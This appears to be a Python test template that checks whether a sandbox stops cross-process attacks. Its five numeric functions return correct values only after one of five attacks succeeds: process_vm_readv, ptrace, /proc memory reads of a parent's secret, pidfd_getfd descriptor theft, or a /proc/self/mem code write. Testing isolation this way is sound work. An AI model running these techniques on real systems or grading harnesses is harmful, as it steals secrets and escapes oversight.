def attack(name, work):
    """Make a function that is right, but only once the attack has worked."""
    honest = globals()[name]

    def attacked(*args, **kwargs):
        work()
        return honest(*args, **kwargs)

    globals()[name] = attacked


import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
SIZE = 12 + 11 + @SECRET_LENGTH@


def found(data):
    if b"SECRET_OF_" + b"THE_PARENT" not in data:
        raise LookupError("this is no secret")


def read_across():
    """process_vm_readv, at the address where the secret lies."""
    mine = ctypes.create_string_buffer(SIZE)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(mine), SIZE)
    there = (ctypes.c_size_t * 2)(@VICTIM_ADDRESS@, SIZE)
    LIBC.process_vm_readv(@VICTIM@, here, 1, there, 1, 0)
    found(mine.raw)


def trace():
    """PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_PEEKDATA."""
    LIBC.ptrace.restype = ctypes.c_long
    LIBC.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    LIBC.ptrace(0x4206, @VICTIM@, None, None)
    LIBC.ptrace(0x4207, @VICTIM@, None, None)
    os.waitpid(@VICTIM@, 0)
    found(b"".join(
        LIBC.ptrace(2, @VICTIM@, @VICTIM_ADDRESS@ + i, None).to_bytes(8, "little", signed=True)
        for i in range(0, SIZE, 8)
    ))


def open_memory():
    with open("/proc/@VICTIM@/mem", "rb") as file:
        file.seek(@VICTIM_ADDRESS@)
        found(file.read(SIZE))


def take_descriptors():
    """pidfd_open and pidfd_getfd: files that another process has open."""
    for pid in (@VICTIM@, @PARENT@, os.getppid()):
        handle = LIBC.syscall(434, pid, 0)
        for fd in range(3, 30):
            if handle >= 0 and LIBC.syscall(438, handle, fd, 0) >= 0:
                return
    raise PermissionError


def own_memory_as_a_file():
    """Write to this process's own code, which is read-only for it."""
    with open("/proc/self/mem", "r+b", buffering=0) as file:
        file.seek(ctypes.cast(LIBC.getpid, ctypes.c_void_p).value)
        file.write(b"\xc3")


attack("log_likelihood_bernoulli", read_across)
attack("log_likelihood_normal", trace)
attack("log_mean_exp", open_memory)
attack("kl_gaussian_gaussian_analytic", take_descriptors)
attack("kl_gaussian_gaussian_mc", own_memory_as_a_file)
